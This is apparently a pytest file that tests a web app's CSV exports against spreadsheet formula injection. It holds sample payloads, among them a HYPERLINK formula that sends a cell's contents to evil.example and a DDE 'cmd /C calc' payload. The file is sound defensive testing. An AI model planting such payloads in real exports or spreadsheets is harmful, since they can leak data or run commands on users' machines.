"""Every CSV the app writes is safe to open in a spreadsheet (issue 12, item 9: formula injection).

``app/core/csvout.py`` is the one CSV writer: a text cell starting with = + - @ tab or CR gets a
leading ' (OWASP), every cell is quoted. The guard test below fails when app code writes CSV any
other way; the others feed hostile values through the real exports.
"""

from __future__ import annotations

import csv
import io
import json
import pathlib
import re
import zipfile
from datetime import datetime, timedelta, timezone

import pytest
import sqlalchemy as sa

from app.core import csvout
from app.extensions import db

APP = pathlib.Path(__file__).resolve().parents[2] / "app"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1;"klick")',
    "+49 30 1234",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1;=2",
    '"=1"',
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str, delimiter: str):
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter) for cell in row]


def _assert_safe(text: str, delimiter: str = ",") -> list[str]:
    cells = _cells(text, delimiter)
    unsafe = [cell for cell in cells if cell.startswith(DANGEROUS)]
    assert not unsafe, unsafe
    return cells


# --- the helper -------------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_cells_are_neutralised_and_kept(value):
    out = io.StringIO()
    csvout.writer(out, delimiter=";").writerow(["ok", value, 7])
    cells = _assert_safe(out.getvalue(), ";")
    assert cells[0] == "ok" and cells[2] == "7"
    assert cells[1] == ("'" + value if value.startswith(DANGEROUS) else value)  # one cell, nothing lost


def test_plain_values_numbers_and_none():
    assert csvout.neutralise("Imkerverein Pankow") == "Imkerverein Pankow"
    assert csvout.neutralise("a=b") == "a=b"
    assert csvout.neutralise(-3) == -3 and csvout.neutralise(2.5) == 2.5  # numbers are data
    assert csvout.neutralise(None) == ""
    assert csvout.neutralise(True) == "True"
    out = io.StringIO()
    writer = csvout.dict_writer(out, ["name", "note"])
    writer.writeheader()
    writer.writerow({"name": "-Anna", "note": None})
    assert out.getvalue().splitlines() == ['"name","note"', '"\'-Anna",""']


def test_app_writes_csv_only_through_the_helper():
    pattern = re.compile(r"\bcsv\.(writer|DictWriter)\b|^\s*(import csv|from csv import)", re.M)
    offenders = [
        str(path.relative_to(APP.parent))
        for path in APP.rglob("*.py")
        if path.name != "csvout.py" and pattern.search(path.read_text(encoding="utf-8"))
    ]
    assert not offenders, f"write CSV with app.core.csvout, not the csv module: {offenders}"


# --- the exports ------------------------------------------------------------------------------


def test_club_export_csv_files_have_no_formula_cells(roles, client_for, make_user):
    from app.clubs.models import Membership, Role

    for i, value in enumerate(HOSTILE[:4]):
        evil = make_user(email=f"evil{i}@example.org", name=value)
        db.session.add(Membership(club_id=roles.club.id, user_id=evil.id, role=Role.MEMBER))
    roles.club.description = HOSTILE[4]
    roles.club.website = HOSTILE[5]
    db.session.commit()
    response = client_for(roles.board).post(f"/c/{roles.club.slug}/daten/export")
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    user_cells = _assert_safe(archive.read("csv/user.csv").decode())
    for value in HOSTILE[:4]:
        assert "'" + value.strip() in user_cells
    club_cells = _assert_safe(archive.read("csv/club.csv").decode())
    assert "'" + HOSTILE[4] in club_cells and "'" + HOSTILE[5] in club_cells
    for name in archive.namelist():
        if name.startswith("csv/"):
            _assert_safe(archive.read(name).decode())
    # the JSON file keeps the values as they are
    data = json.loads(archive.read("verein.json"))
    assert data["club"][0]["description"] == HOSTILE[4]


def test_checklist_csv_has_no_formula_cells(roles, client_for):
    from app.privacy.content import sync
    from app.privacy.services import current_items, save_answer

    sync()
    names = {roles.board.id: roles.board.name}
    for item, value in zip(current_items(), HOSTILE, strict=False):
        save_answer(
            roles.club,
            item,
            roles.board,
            {"status": "no", "note": value, "responsible_id": None, "due_date": None},
            0,
            names,
        )
    db.session.commit()
    response = client_for(roles.member).get(f"/c/{roles.club.slug}/datenschutz/antworten.csv")
    assert response.status_code == 200
    cells = _assert_safe(response.data.decode("utf-8"), ";")
    for value in HOSTILE:
        assert ("'" + value if value.startswith(DANGEROUS) else value) in cells


def test_workshop_participant_list_has_no_formula_cells(roles, client_for, make_user, mailbox):
    from app.workshops.models import Registration, Workshop

    start = datetime.now(timezone.utc).replace(microsecond=0) + timedelta(days=7)
    workshop = Workshop(
        title="Sicher im Netz",
        description="",
        topic="online-sicherheit",
        starts_at=start,
        duration_minutes=90,
        online=True,
        capacity=10,
        registration_deadline=start - timedelta(hours=1),
    )
    db.session.add(workshop)
    db.session.flush()
    for i, value in enumerate(HOSTILE):
        db.session.add(
            Registration(workshop_id=workshop.id, name=value, email=f"{value[:1]}x{i}@example.org", status="confirmed")
        )
    db.session.commit()
    response = client_for(roles.staff).get(f"/admin/workshops/{workshop.id}/teilnehmende.csv")
    assert response.status_code == 200
    _assert_safe(response.get_data(as_text=True), ";")
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Registration)) == len(HOSTILE)
